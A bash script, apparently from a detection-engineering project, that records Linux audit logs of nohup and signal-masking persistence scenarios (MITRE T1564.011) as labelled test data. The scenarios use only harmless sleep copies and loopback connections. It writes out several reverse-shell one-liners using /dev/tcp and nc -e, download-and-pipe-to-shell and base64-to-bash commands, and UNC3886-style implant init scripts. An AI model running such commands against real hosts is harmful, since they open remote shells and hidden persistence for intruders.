#!/usr/bin/env bash
# audit-scenarios.sh — record real Linux kernel audit logs of T1564.011 scenarios.
#
# Usage:   sudo scripts/audit-scenarios.sh OUTDIR [raw|enriched|both]      (default: both)
# Regenerate the committed examples:
#          sudo scripts/audit-scenarios.sh examples/linux both
#
# What it does
#   1. Refuses to run unless it is root and no other audit daemon is connected to the
#      kernel (only one process can own the audit netlink socket). Takes a lock so two
#      copies never overlap.
#   2. Creates its own scratch files: a work dir /tmp/sighunt-e2e.XXXXXX, a hidden dir
#      /tmp/.sighunt-XXXXXX, /tmp/df00tech_test_payload_XXXXXX.sh, /dev/shm/sighunt-e2e.XXXXXX,
#      /opt/sighunt-admin/backup.sh (only if absent) and the init script
#      /etc/init.d/sighunt-e2e-localnet (refuses to run if it exists; removed afterwards).
#   3. For each requested format, starts a PRIVATE auditd (`auditd -n -c <tmp dir>`,
#      log_format=RAW + name_format=NONE, or log_format=ENRICHED + name_format=HOSTNAME),
#      adds execve (b64+b32) and bind/listen (b64+b32) rules filtered on a login uid
#      (auid) that no other process uses, runs every scenario in a shell whose
#      /proc/self/loginuid is that auid (so only the scenarios are audited), waits for an
#      end marker to reach the log, deletes exactly the rules it added, stops its auditd
#      and copies the log to OUTDIR/audit-raw.log or OUTDIR/audit-enriched.log.
#   4. Writes OUTDIR/scenarios.tsv (labels for the logs, see below) and prints a short
#      per-scenario check of what the kernel recorded.
#   On exit (normal, error or signal) a trap kills every process still running under the
#   private auid, deletes only its own rules, stops only its own auditd and removes its
#   scratch files. Safe to run repeatedly; outputs are replaced atomically.
#
# Safety: everything is bounded in time (the scenario shell runs under `timeout`, each
# long-lived process is killed explicitly, left-overs are killed by auid), and the only
# network activity is on 127.0.0.1 (a listener on 14444, connection attempts to port 9,
# on which nothing may listen: the script refuses to run otherwise).
#
# OUTDIR/scenarios.tsv: one line per scenario, no header, tab-separated:
#   id  expectation  description  nohup_target  expected_indicators
#   expectation  malicious | admin (benign nohup: at most low severity)
#                | benign (must not be reported) | signal (signal masking, later issue)
#   nohup_target what nohup finally runs, as written in argv ("-" when not a nohup case)
#   expected_indicators  "-" or comma-separated groups that must all be present; a
#                group "a|b" is satisfied by either indicator.
#   The first three columns are the stable contract; columns 4-5 are for the tests.
#
# Exit status: 0 ok, 1 failure, 2 usage, 3 environment not suitable (not root, tool
# missing, another auditd running, port 9 in use ...).

set -uo pipefail

readonly SAFE_PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
readonly NC_PORT=14444      # loopback listener of scenario 01
readonly DEAD_PORT=9        # loopback port nothing listens on (reverse-shell attempts)
readonly K_NC_PORT=14445    # loopback listener of scenario k27
readonly K_HTTP_PORT=18080  # loopback development server of scenario a03
readonly RULE_KEY_EXEC=sighunt_e2e
readonly RULE_KEY_NET=sighunt_e2e_net
readonly ADMIN_DIR=/opt/sighunt-admin
readonly ADMIN_SCRIPT=$ADMIN_DIR/backup.sh
# UNC3886 ran `nohup /bin/support` from /etc/init.d/localnet; scenario 13 does the same
# with a script of its own name.
readonly INIT_SCRIPT=/etc/init.d/sighunt-e2e-localnet

# ---------------------------------------------------------------------------------------
# Scenario runner. Invoked as: bash audit-scenarios.sh --scenario-runner AUID WD DF HID SHM
# It first sets its own login uid (from here on, it and all its children are audited),
# then runs the scenarios. Must only use shell builtins besides the scenario commands,
# so the log stays readable.
# ---------------------------------------------------------------------------------------
if [[ ${1-} == --scenario-runner ]]; then
    AUID=$2 WD=$3 DF=$4 HID=$5 SHM=$6 INIT=$7 WEBUSER=${8-}
    # Issue #14 fixtures: a /dev/shm dir, a /run/lock dir, a /var/tmp dir, a hidden
    # dir under root's ~/.cache, a project dir, the vendor and implant init scripts.
    KSHM=${9-} KLOCK=${10-} KVAR=${11-} KHID=${12-} PROJ=${13-} VINIT=${14-} KINIT=${15-} KHTTP=${16-}
    export PATH=$SAFE_PATH LC_ALL=C
    echo "$AUID" >/proc/self/loginuid || { echo "cannot set loginuid" >&2; exit 97; }
    cd "$WD" || exit 98
    FIFO=$WD/.pause
    pause() { read -r -t "$1" <>"$FIFO" || true; }   # sleep without an exec
    # Each scenario starts with a marker exec (`/bin/true sighunt-scenario=ID`), so
    # that findings can be attributed to scenarios by their line in the log
    # (scripts/score-kernel-scenarios.py).
    begin() { echo "=== scenario $1" >&2; /bin/true "sighunt-scenario=$1"; }
    stop_bg() { kill "$1" 2>/dev/null; wait "$1" 2>/dev/null; }
    printf -v PAD '%*s' 9000 ''
    PAD=${PAD// /A}

    begin 01   # seed test 1: loopback listener kept alive by nohup
    nohup nc -lvp "$NC_PORT" -s 127.0.0.1 >"$WD/nc.out" 2>&1 &
    p=$!; pause 1; stop_bg "$p"

    begin 02   # seed test 2: payload script in /tmp
    chmod +x "$DF"
    nohup "$DF"

    begin 03   # seed test 3: python signal masking
    python3 -c 'import signal,time; signal.signal(signal.SIGHUP, signal.SIG_IGN); signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(1)'

    begin 04   # sh -c string with nohup + redirections + & (kernel hex-encodes it)
    sh -c "nohup $WD/x4.sh >/dev/null 2>&1 &"

    begin 04e  # the same nohup, base64-encoded and piped to a shell
    sh -c "echo $(printf 'nohup %s >/dev/null 2>&1 &' "$WD/x4e.sh" | base64 -w0) | base64 -d | sh"

    begin 04p  # the same nohup, run by Python's os.system (a shell between)
    python3 -c "import os; os.system('nohup $WD/x4p.sh >/dev/null 2>&1 &')"

    begin 05a  # >8 KB argument: kernel splits it into a2_len / a2[0..n]
    nohup "$WD/x5.sh" "$PAD"

    begin 05b  # >8 KB sh -c string containing nohup, split and hex-encoded
    # openbsd nc has no -e: it prints usage and exits at once (no connection at all)
    sh -c ": $PAD; nohup $WD/netcat -e /bin/sh 127.0.0.1 $DEAD_PORT &"

    begin 06   # busybox applet
    busybox nohup "$WD/x6.sh"

    begin 07   # env wrapper (env searches PATH for nohup)
    env X=1 nohup "$WD/x7.sh"

    begin 08a  # setsid wrapper, payload in /dev/shm
    setsid nohup "$SHM" 0.3

    begin 08b  # timeout wrapper
    timeout 5 nohup "$WD/x8.sh"

    begin 08c  # reverse shell kept alive by nohup (127.0.0.1:9 refuses: fails at once)
    nohup bash -c "bash -i >& /dev/tcp/127.0.0.1/$DEAD_PORT 0>&1" &
    p=$!; pause 0.5; stop_bg "$p"

    begin 09   # hidden directory payload named like a kernel thread
    nohup "$HID/kworker" 1

    begin 10   # administrator's backup job
    sh -c "nohup $ADMIN_SCRIPT > $WD/backup.log 2>&1 &"

    begin 11   # benign look-alikes
    grep nohup "$WD/notes.txt"
    python3 -c 'import signal; print(signal.SIGHUP)'
    /bin/echo nohup is a command
    sh -c 'echo nohup is a command'

    begin 12   # signal masking in perl and bash
    perl -e '$SIG{TERM}="IGNORE"; sleep 1'
    bash -c "trap '' HUP INT TERM; sleep 1"

    begin 13a  # UNC3886: an init script runs `nohup <payload> &`
    "$INIT" start
    kill "$(<"$WD/support.pid")" 2>/dev/null

    begin 13b  # the payload was killed; the init script starts it again
    "$INIT" start
    kill "$(<"$WD/support.pid")" 2>/dev/null

    begin 14   # a web server account (www-data) keeps a tool alive: a web shell
    if [[ -n $WEBUSER ]]; then
        runuser -u "$WEBUSER" -- sh -c "nohup $WD/websvc 0.3 >/dev/null 2>&1 &"
        pause 0.5
    fi


    # ------------------------------------------------------------------------------
    # Issue #14: judge what runs, not how it was spelled. Malicious variants (k…)
    # and the administrator's and developer's look-alikes (a…). Expected verdicts in
    # scenarios.tsv and docs/detection-linux.md.
    # ------------------------------------------------------------------------------
    if [[ -n $KSHM ]]; then
    begin k01; nohup nice -n 19 "$WD/m01" 0.2                  # wrapper after nohup
    begin k02; nohup stdbuf -oL timeout 5 "$WD/m02" 0.2        # two after nohup
    begin k03; setsid -f nohup "$KSHM/m03" 0.2; pause 0.4      # setsid -f forks
    begin k04; flock /run/lock/sighunt-k04.lock nohup "$KLOCK/m04" 0.2
    begin k05; echo 0.2 | xargs nohup "$KVAR/m05"              # xargs appends its input
    begin k06; find "$WD/m06" -maxdepth 0 -exec nohup {} 0.2 \;
    begin k07; script -qc "nohup $WD/m07 0.2" /dev/null >/dev/null
    begin k08; runuser -u nobody -- nohup "$KLOCK/m08" 0.2
    begin k09; su -s /bin/sh nobody -c "nohup $KVAR/m09 0.2 >/dev/null 2>&1 &"; pause 0.4
    begin k10; dash -c "nohup $KSHM/m10 0.2 & wait"
    begin k11; busybox sh -c "nohup $KHID/kdevtmpfsi 0.2 & wait"   # hidden dir in ~/.cache
    begin k12; bash -c "exec -a '[kworker/0:2]' nohup $PROJ/k12.sh"   # argv0 renamed
    begin k13; "$WD/.n" "$PROJ/k13.sh"                          # symlink to nohup
    begin k14; cp /usr/bin/nohup "$KVAR/hup"; "$KVAR/hup" "$PROJ/k14.sh"   # copy of nohup
    begin k15; curl -fsS "file://$WD/s15.sh" | nohup sh         # download piped to nohup sh
    begin k16; echo c2xlZXAgMC4yCg== | base64 -d | nohup bash   # decoder piped
    begin k17; nohup sh -c "$(curl -fsS "file://$WD/s17.sh")"   # substitution
    begin k18; nohup bash -c "$(echo c2xlZXAgMC4yCg== | base64 -d)"
    begin k19; perl -MPOSIX -e 'POSIX::sigaction(SIGTERM, POSIX::SigAction->new("IGNORE")); exec "'"$WD"'/m19", "0.2"'
    begin k20; python3 -c 'from signal import *; signal(SIGTERM, SIG_IGN); signal(SIGHUP, SIG_IGN)'
    begin k21; node -e 'process.on("SIGTERM", () => {}); process.on("SIGINT", () => {}); setTimeout(() => {}, 200)'
    begin k22; sh -c "trap -- '' 1 15; exec $WD/m22 0.2"
    begin k23; cp "$WD/support" /usr/local/sbin/sighunt-k23-support; "$KINIT" start   # UNC3886 into a system dir
    kill "$(<"$WD/k23.pid")" 2>/dev/null
    begin k24; dd if="$WD/support" of="$KSHM/m24" status=none; chmod 755 "$KSHM/m24"; nohup "$KSHM/m24" 0.2
    begin k25; curl -fsS -o /usr/local/bin/sighunt-k25 "file://$WD/support"; chmod 755 /usr/local/bin/sighunt-k25; nohup /usr/local/bin/sighunt-k25 0.2
    begin k26; nohup bash -c "exec 5<>/dev/tcp/127.0.0.1/$DEAD_PORT; sh <&5 >&5" 2>/dev/null
    begin k27; timeout 1 nohup nc -lvp "$K_NC_PORT" -s 127.0.0.1 >/dev/null 2>&1
    begin k28; nohup python3 "$KSHM/.a.py"
    begin k29; sh -c "setsid nohup $KVAR/m29 0.2 >/dev/null 2>&1 &"; pause 0.4   # one launch, one finding
    begin k30; start-stop-daemon --start --background --exec /usr/bin/nohup -- "$WD/m30" 0.2; pause 0.4
    begin k31; chroot / nohup "$WD/m31" 0.2
    begin k32; unshare -m nohup "$KLOCK/m32" 0.2
    begin k33; nsenter -t 1 -m nohup "$KVAR/m33" 0.2
    if [[ -n $WEBUSER ]]; then
        begin k34; runuser -u "$WEBUSER" -- sh -c "cd /; nohup /usr/bin/sleep 0.3 >/dev/null 2>&1 &"; pause 0.5
    fi
    begin k35; sh -c "echo '#!/bin/sh' > $KVAR/m35.sh; echo 'sleep 0.2' >> $KVAR/m35.sh; chmod +x $KVAR/m35.sh; nohup $KVAR/m35.sh &"; pause 0.4

    begin a01; sh -c "cd $PROJ && nohup ./a01.sh > $PROJ/a01.log 2>&1 &"; pause 0.4
    begin a02; chmod +x "$PROJ/a02.sh"; nohup "$PROJ/a02.sh"     # a developer's script
    begin a03; nohup /usr/bin/python3 -m http.server "$KHTTP" --bind 127.0.0.1 >/dev/null 2>&1 &
    p=$!; pause 1; stop_bg "$p"
    begin a04; nohup cp -a "$PROJ/data" "$PROJ/data.bak"
    begin a05; "$VINIT" start                                      # a vendor's init script
    begin a06; nohup /root/.local/bin/sighunt-tool 0.2            # pip --user / pipx style
    begin a07; cp "$WD/support" "$PROJ/bin/svc"; nohup "$PROJ/bin/svc" 0.2   # a build copied into place
    begin a08; timeout 5 nohup "$PROJ/a08.sh"
    begin a09; flock -n /run/lock/sighunt-a09.lock nohup "$PROJ/a09.sh"
    begin a10; curl -fsS "file://$PROJ/a10.conf" >/dev/null; nohup "$PROJ/a10.sh"   # a download to stdout, then a launch
    begin a11; nohup /usr/bin/perl "$PROJ/a11.pl"
    begin a12; grep -rl nohup /etc/init.d >/dev/null
    begin a13; nohup --version >/dev/null
    begin a14; python3 -c 'import signal; signal.signal(signal.SIGTERM, signal.SIG_DFL)'
    begin a15; bash -c "trap 'rm -f $PROJ/lock' EXIT; sleep 0.2"
    begin a16; node -e 'process.on("SIGTERM", () => { console.log("bye"); process.exit(0) }); setTimeout(() => {}, 100)'
    begin a17; nohup ionice -c3 /usr/bin/sleep 0.2
    begin a18; setsid -f nohup "$PROJ/a18.sh"; pause 0.4
    begin a19; nohup dash -c "cd $PROJ && ./a19.sh" >/dev/null 2>&1
    begin a20; env LANG=C nohup "$PROJ/a20.sh"
    fi

    wait
    exit 0
fi

# ---------------------------------------------------------------------------------------
# Controller
# ---------------------------------------------------------------------------------------
SELF=$(readlink -f -- "${BASH_SOURCE[0]}")
PROG=${0##*/}
export PATH=$SAFE_PATH LC_ALL=C

log()  { printf '%s: %s\n' "$PROG" "$*" >&2; }
die()  { log "error: $*"; exit 1; }
refuse() { log "refusing to run: $*"; exit 3; }
usage() { echo "usage: $PROG OUTDIR [raw|enriched|both]" >&2; exit 2; }

[[ $# -ge 1 && $# -le 2 ]] || usage
[[ $1 == -h || $1 == --help ]] && { sed -n '2,40p' "$SELF" | sed 's/^# \{0,1\}//'; exit 0; }
OUTDIR=$1
MODE=${2:-both}
case $MODE in
    raw) FORMATS=(raw) ;;
    enriched) FORMATS=(enriched) ;;
    both) FORMATS=(raw enriched) ;;
    *) usage ;;
esac

# --- prerequisites ----------------------------------------------------------------------
[[ $(id -u) == 0 ]] || refuse "must run as root (needs the kernel audit subsystem)"
for tool in auditd auditctl busybox nc python3 perl setsid timeout flock grep sh runuser \
    curl dash script su node base64 xargs find chroot unshare nsenter start-stop-daemon dd; do
    command -v "$tool" >/dev/null 2>&1 ||
        refuse "'$tool' not found on PATH (apt-get install -y auditd netcat-openbsd busybox)"
done
[[ -w /proc/self/loginuid ]] || refuse "/proc/self/loginuid is not writable (no audit support?)"

LOCKFILE=/run/lock/sighunt-audit-scenarios.lock
[[ -d /run/lock ]] || LOCKFILE=/tmp/.sighunt-audit-scenarios.lock
exec 9>"$LOCKFILE" || die "cannot open lock $LOCKFILE"
flock -n 9 || refuse "another $PROG is running (lock $LOCKFILE)"

other=
for f in /proc/[0-9]*/comm; do
    read -r c <"$f" 2>/dev/null || continue
    [[ $c == auditd ]] && { p=${f#/proc/}; other+="${p%/comm} "; }
done
[[ -z $other ]] || refuse "another auditd is running (pid ${other% }); stop it first, only one audit daemon can be connected to the kernel"
STATUS=$(auditctl -s 2>&1) || refuse "auditctl -s failed: $STATUS"
kpid=$(awk '$1=="pid"{print $2}' <<<"$STATUS")
[[ ${kpid:-0} == 0 ]] || refuse "another process (pid $kpid) is registered as the kernel's audit daemon"
ENABLED0=$(awk '$1=="enabled"{print $2}' <<<"$STATUS")
[[ $ENABLED0 != 2 ]] || refuse "audit configuration is locked (enabled 2); rules cannot be changed"
LOST0=$(awk '$1=="lost"{print $2}' <<<"$STATUS")

port_listening() {   # $1 = port; any IPv4/IPv6 TCP socket in LISTEN state on it
    local hex f
    printf -v hex '%04X' "$1"
    for f in /proc/net/tcp /proc/net/tcp6; do
        [[ -r $f ]] && awk -v p=":$hex" '$4=="0A" && substr($2, length($2)-4)==p {found=1} END{exit !found}' "$f" && return 0
    done
    return 1
}
port_listening "$DEAD_PORT" && refuse "something listens on TCP port $DEAD_PORT; the reverse-shell scenarios must fail to connect"
port_listening "$NC_PORT" && log "warning: port $NC_PORT already in use, scenario 01's nc will fail to listen"

# --- a login uid nobody uses --------------------------------------------------------------
auid_in_use() {
    local f v
    for f in /proc/[0-9]*/loginuid; do
        read -r v <"$f" 2>/dev/null || continue
        [[ $v == "$1" ]] && return 0
    done
    return 1
}
AUID=$((20000 + $$ % 40000))
for _ in $(seq 1 100); do
    auid_in_use "$AUID" || break
    AUID=$((20000 + (AUID - 20000 + 7919) % 40000))
done
auid_in_use "$AUID" && die "could not find an unused login uid"

# --- cleanup, always ------------------------------------------------------------------------
WD='' HID='' DF='' SHM='' ADIR='' AUDITD_PID='' RUNNER_PID='' ADMIN_CREATED_DIR=0 ADMIN_CREATED_FILE=0 INIT_CREATED=0
KSHM='' KLOCK='' KVAR='' KHID='' PROJ='' K_INITS_CREATED=0 LOCALBIN_CREATED=0
readonly VINIT=/etc/init.d/sighunt-e2e-vendor KINIT=/etc/init.d/sighunt-e2e-k23
readonly K23_IMPLANT=/usr/local/sbin/sighunt-k23-support K25_DROP=/usr/local/bin/sighunt-k25
readonly LOCAL_TOOL=/root/.local/bin/sighunt-tool
RULES_ADDED=()

kill_auid_procs() {   # every process whose loginuid is our private auid
    local sig=$1 f v pid n=0
    for f in /proc/[0-9]*/loginuid; do
        read -r v <"$f" 2>/dev/null || continue
        [[ $v == "$AUID" ]] || continue
        pid=${f#/proc/}; pid=${pid%/loginuid}
        [[ $pid == "$$" || $pid == "$BASHPID" ]] && continue
        kill "-$sig" "$pid" 2>/dev/null && n=$((n + 1))
    done
    echo "$n"
}
count_auid_procs() { kill_auid_procs 0; }

reap_auid_procs() {   # wait up to $1 seconds, then TERM, then KILL
    local deadline=$((SECONDS + $1))
    while (($(count_auid_procs) > 0 && SECONDS < deadline)); do sleep 0.2; done
    if (($(count_auid_procs) > 0)); then
        log "terminating $(count_auid_procs) left-over scenario process(es)"
        kill_auid_procs TERM >/dev/null
        sleep 0.5
        kill_auid_procs KILL >/dev/null
        sleep 0.2
    fi
}

delete_rules() {
    local i spec
    for i in "${!RULES_ADDED[@]}"; do
        spec=${RULES_ADDED[$i]}
        # shellcheck disable=SC2086  # the spec is a list of auditctl words
        auditctl -d $spec >/dev/null 2>&1 || log "warning: could not delete rule: -d $spec"
        unset "RULES_ADDED[$i]"
    done
}

stop_auditd() {
    [[ -n $AUDITD_PID ]] || return 0
    if kill -0 "$AUDITD_PID" 2>/dev/null; then
        kill -TERM "$AUDITD_PID" 2>/dev/null
        local deadline=$((SECONDS + 10))
        while kill -0 "$AUDITD_PID" 2>/dev/null && ((SECONDS < deadline)); do sleep 0.1; done
        kill -0 "$AUDITD_PID" 2>/dev/null && kill -KILL "$AUDITD_PID" 2>/dev/null
    fi
    wait "$AUDITD_PID" 2>/dev/null
    AUDITD_PID=
}

cleanup() {
    local rc=$?
    trap - EXIT INT TERM HUP
    [[ -n $RUNNER_PID ]] && kill -TERM "$RUNNER_PID" 2>/dev/null
    [[ -n ${AUID-} ]] && { kill_auid_procs TERM >/dev/null; sleep 0.2; kill_auid_procs KILL >/dev/null; }
    delete_rules
    stop_auditd
    [[ $ENABLED0 == 0 ]] && auditctl -e 0 >/dev/null 2>&1
    [[ -n $WD && -d $WD ]] && rm -rf -- "$WD"
    [[ -n $HID && -d $HID ]] && rm -rf -- "$HID"
    [[ -n $ADIR && -d $ADIR ]] && rm -rf -- "$ADIR"
    [[ -n $DF ]] && rm -f -- "$DF"
    [[ -n $SHM ]] && rm -f -- "$SHM"
    ((ADMIN_CREATED_FILE)) && rm -f -- "$ADMIN_SCRIPT"
    ((ADMIN_CREATED_DIR)) && rmdir -- "$ADMIN_DIR" 2>/dev/null
    ((INIT_CREATED)) && rm -f -- "$INIT_SCRIPT"
    for d in "$KSHM" "$KLOCK" "$KVAR" "$KHID" "$PROJ"; do
        [[ -n $d && -d $d ]] && rm -rf -- "$d"
    done
    ((K_INITS_CREATED)) && rm -f -- "$VINIT" "$KINIT" "$K23_IMPLANT" "$K25_DROP" "$LOCAL_TOOL"
    ((LOCALBIN_CREATED)) && rmdir -- /root/.local/bin 2>/dev/null
    rm -f /run/lock/sighunt-k04.lock /run/lock/sighunt-a09.lock
    exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
trap 'exit 129' HUP

# --- scratch files --------------------------------------------------------------------------
[[ -e $INIT_SCRIPT ]] && refuse "$INIT_SCRIPT exists (left over from an interrupted run? remove it)"
for f in "$VINIT" "$KINIT" "$K23_IMPLANT" "$K25_DROP" "$LOCAL_TOOL"; do
    [[ -e $f ]] && refuse "$f exists (left over from an interrupted run? remove it)"
done
port_listening "$K_NC_PORT" && refuse "TCP port $K_NC_PORT is in use (scenario k27)"
port_listening "$K_HTTP_PORT" && refuse "TCP port $K_HTTP_PORT is in use (scenario a03)"
[[ -d ${INIT_SCRIPT%/*} ]] || refuse "${INIT_SCRIPT%/*} does not exist"
# The web-shell scenario runs as www-data when the account exists.
WEBUSER=
getent passwd www-data >/dev/null 2>&1 && WEBUSER=www-data
mkdir -p -- "$OUTDIR" || die "cannot create $OUTDIR"
OUTDIR=$(cd -- "$OUTDIR" && pwd) || die "bad OUTDIR"

WD=$(mktemp -d /tmp/sighunt-e2e.XXXXXX) || die "mktemp"
HID=$(mktemp -d /tmp/.sighunt-XXXXXX) || die "mktemp"
DF=$(mktemp /tmp/df00tech_test_payload_XXXXXX.sh) || die "mktemp"
SHM=$(mktemp /dev/shm/sighunt-e2e.XXXXXX) || die "mktemp"
chmod 755 "$WD" "$HID"

printf '#!/bin/sh\n# sighunt e2e seed test 2 payload\nsleep 1\n' >"$DF"   # chmod +x happens audited
for n in 4 5 6 7 8; do
    printf '#!/bin/sh\nsleep 0.2\n' >"$WD/x$n.sh"
    chmod 755 "$WD/x$n.sh"
done
cp -L -- "$(command -v nc)" "$WD/netcat"
cp -L -- "$(command -v sleep)" "$HID/kworker"
cp -L -- "$(command -v sleep)" "$SHM"
cp -L -- "$(command -v sleep)" "$WD/support"
cp -L -- "$(command -v sleep)" "$WD/websvc"
chmod 755 "$WD/netcat" "$HID/kworker" "$SHM" "$WD/support" "$WD/websvc"
# The init script: it records the payload's pid so the runner can kill it, and waits a
# moment so that its child execs nohup while it still runs (a child whose parent has
# exited is re-parented to init, and the kernel then logs ppid=1).
INIT_CREATED=1   # it did not exist (checked above): ours to remove, even half-written
cat >"$INIT_SCRIPT" <<EOF || die "cannot write $INIT_SCRIPT"
#!/bin/sh
# sighunt e2e: stand-in for UNC3886's /etc/init.d/localnet (removed after the run)
case "\$1" in
start)
    nohup $WD/support 30 >/dev/null 2>&1 &
    echo \$! >$WD/support.pid
    sleep 0.5
    ;;
esac
exit 0
EOF
chmod 755 "$INIT_SCRIPT" || die "cannot chmod $INIT_SCRIPT"
printf 'remember: nohup keeps jobs alive after logout\n' >"$WD/notes.txt"

# Issue #14 fixtures: staging areas beyond /tmp, a project directory, two init scripts.
KSHM=$(mktemp -d /dev/shm/sighunt-k.XXXXXX) || die "mktemp"
KLOCK=$(mktemp -d /run/lock/sighunt-k.XXXXXX) || die "mktemp"
KVAR=$(mktemp -d /var/tmp/sighunt-k.XXXXXX) || die "mktemp"
mkdir -p /root/.cache && KHID=$(mktemp -d /root/.cache/.sighunt-k.XXXXXX) || die "mktemp"
PROJ=$(mktemp -d /opt/sighunt-proj.XXXXXX) || die "mktemp"
chmod 755 "$KSHM" "$KLOCK" "$KVAR" "$PROJ"
for f in "$WD/m01" "$WD/m02" "$KSHM/m03" "$KLOCK/m04" "$KVAR/m05" "$WD/m06" "$WD/m07" "$KLOCK/m08" \
    "$KVAR/m09" "$KSHM/m10" "$KHID/kdevtmpfsi" "$WD/m19" "$WD/m22" "$KVAR/m29" "$WD/m30" "$WD/m31" \
    "$KLOCK/m32" "$KVAR/m33"; do
    cp -L -- "$(command -v sleep)" "$f" && chmod 755 "$f" || die "cannot create $f"
done
ln -s /usr/bin/nohup "$WD/.n"
printf 'sleep 0.2\n' >"$WD/s15.sh"
printf 'sleep 0.2\n' >"$WD/s17.sh"
printf 'import time\ntime.sleep(0.2)\n' >"$KSHM/.a.py"
mkdir -p "$PROJ/data" "$PROJ/bin"
printf 'retention=7\n' >"$PROJ/a10.conf"
for n in a01 a02 a08 a09 a10 a18 a19 a20 k12 k13 k14; do
    printf '#!/bin/sh\n# sighunt e2e: a project script\nsleep 0.2\n' >"$PROJ/$n.sh"
    chmod 755 "$PROJ/$n.sh"
done
chmod 644 "$PROJ/a02.sh"   # made executable by the scenario
printf 'select(undef, undef, undef, 0.2);\n' >"$PROJ/a11.pl"
printf 'row\n' >"$PROJ/data/x.csv"
[[ -d /root/.local/bin ]] || { mkdir -p /root/.local/bin && LOCALBIN_CREATED=1; }
K_INITS_CREATED=1
cp -L -- "$(command -v sleep)" "$LOCAL_TOOL" && chmod 755 "$LOCAL_TOOL" || die "cannot create $LOCAL_TOOL"
cat >"$VINIT" <<EOF || die "cannot write $VINIT"
#!/bin/sh
# sighunt e2e: a vendor's init script starting its packaged daemon (removed after the run)
case "\$1" in
start) nohup /bin/sleep 0.3 >/dev/null 2>&1 & sleep 0.5 ;;
esac
exit 0
EOF
cat >"$KINIT" <<EOF || die "cannot write $KINIT"
#!/bin/sh
# sighunt e2e: UNC3886's localnet with its implant copied into a system directory
case "\$1" in
start) nohup $K23_IMPLANT 30 >/dev/null 2>&1 & echo \$! >$WD/k23.pid; sleep 0.5 ;;
esac
exit 0
EOF
chmod 755 "$VINIT" "$KINIT" || die "cannot chmod the init scripts"

mkfifo -m 600 "$WD/.pause"
if [[ ! -d $ADMIN_DIR ]]; then
    mkdir -p -- "$ADMIN_DIR" && ADMIN_CREATED_DIR=1
fi
if [[ ! -e $ADMIN_SCRIPT ]]; then
    printf '#!/bin/sh\n# sighunt e2e: stand-in for a nightly backup\nsleep 0.2\necho backup done\n' >"$ADMIN_SCRIPT" &&
        chmod 755 "$ADMIN_SCRIPT" && ADMIN_CREATED_FILE=1
else
    log "note: $ADMIN_SCRIPT already exists and is used as is (not removed afterwards)"
fi

# --- one capture --------------------------------------------------------------------------
add_rule() {   # $@ = rule spec without -a/-d
    local out
    if out=$(auditctl -a "$@" 2>&1); then
        RULES_ADDED+=("$*")
    else
        log "warning: auditctl -a $* failed: $out"
        return 1
    fi
}

write_conf() {   # $1 dir, $2 raw|enriched
    local fmt=RAW name=NONE
    [[ $2 == enriched ]] && { fmt=ENRICHED; name=HOSTNAME; }
    mkdir -p "$1/plugins.d"
    cat >"$1/auditd.conf" <<EOF
local_events = yes
write_logs = yes
log_file = $1/audit.log
log_group = root
log_format = $fmt
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 100
num_logs = 2
priority_boost = 0
name_format = $name
max_log_file_action = IGNORE
space_left = 75
space_left_action = IGNORE
admin_space_left = 50
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
tcp_client_max_idle = 0
end_of_event_timeout = 2
plugin_dir = $1/plugins.d
EOF
    chmod 600 "$1/auditd.conf"
}

capture() {   # $1 = raw|enriched
    local fmt=$1 deadline arch rc
    ADIR=$(mktemp -d /tmp/sighunt-auditd.XXXXXX) || die "mktemp"
    write_conf "$ADIR" "$fmt"
    log "[$fmt] starting private auditd (config $ADIR/auditd.conf, auid $AUID)"
    auditd -n -c "$ADIR" >"$ADIR/auditd.out" 2>&1 9>&- &
    AUDITD_PID=$!
    deadline=$((SECONDS + 10))
    until [[ $(auditctl -s 2>/dev/null | awk '$1=="pid"{print $2}') == "$AUDITD_PID" ]]; do
        kill -0 "$AUDITD_PID" 2>/dev/null || die "auditd exited: $(cat "$ADIR/auditd.out")"
        ((SECONDS < deadline)) || die "auditd did not register with the kernel within 10 s"
        sleep 0.1
    done

    for arch in b64 b32; do
        add_rule always,exit -F arch=$arch -S execve -F auid="$AUID" -k "$RULE_KEY_EXEC" ||
            [[ $arch == b32 ]] || die "cannot add the execve rule"
        add_rule always,exit -F arch=$arch -S bind -S listen -F auid="$AUID" -k "$RULE_KEY_NET"
    done

    log "[$fmt] running scenarios"
    # In the background + `wait`, so that INT/TERM reach our trap at once.
    timeout -k 5 150 bash "$SELF" --scenario-runner "$AUID" "$WD" "$DF" "$HID" "$SHM" "$INIT_SCRIPT" "$WEBUSER" \
        "$KSHM" "$KLOCK" "$KVAR" "$KHID" "$PROJ" "$VINIT" "$KINIT" "$K_HTTP_PORT" \
        >"$WD/scenarios-$fmt.out" 2>&1 </dev/null 9>&- &
    RUNNER_PID=$!
    wait "$RUNNER_PID"
    rc=$?
    RUNNER_PID=
    ((rc == 0)) || log "warning: scenario runner exited with $rc (see below)"
    reap_auid_procs 5

    # End marker: once it is in the log, every earlier record has left the kernel queue.
    (cd "$WD" && bash -c 'echo "$1" >/proc/self/loginuid && exec /bin/true sighunt-e2e-end' _ "$AUID")
    deadline=$((SECONDS + 10))
    until grep -q 'a1="sighunt-e2e-end"' "$ADIR/audit.log" 2>/dev/null; do
        ((SECONDS < deadline)) || { log "warning: end marker not seen in the log after 10 s"; break; }
        sleep 0.2
    done
    sleep 1   # let auditd write anything queued behind the marker

    delete_rules
    stop_auditd
    [[ -s $ADIR/audit.log ]] || die "[$fmt] auditd wrote no log"
    cp -- "$ADIR/audit.log" "$OUTDIR/.audit-$fmt.log.tmp" &&
        chmod 644 "$OUTDIR/.audit-$fmt.log.tmp" &&
        mv -f -- "$OUTDIR/.audit-$fmt.log.tmp" "$OUTDIR/audit-$fmt.log" || die "cannot write $OUTDIR/audit-$fmt.log"
    if [[ $fmt == "${FORMATS[0]}" ]]; then
        log "[$fmt] scenario runner output:"
        sed 's/^/    /' "$WD/scenarios-$fmt.out" >&2
        log "[$fmt] nc output: $(tr '\n' ' ' <"$WD/nc.out" 2>/dev/null)"
    fi
    rm -rf -- "$ADIR"
    ADIR=
    log "[$fmt] wrote $OUTDIR/audit-$fmt.log ($(wc -c <"$OUTDIR/audit-$fmt.log") bytes)"
}

write_tsv() {
    local t=$OUTDIR/.scenarios.tsv.tmp bb_note=
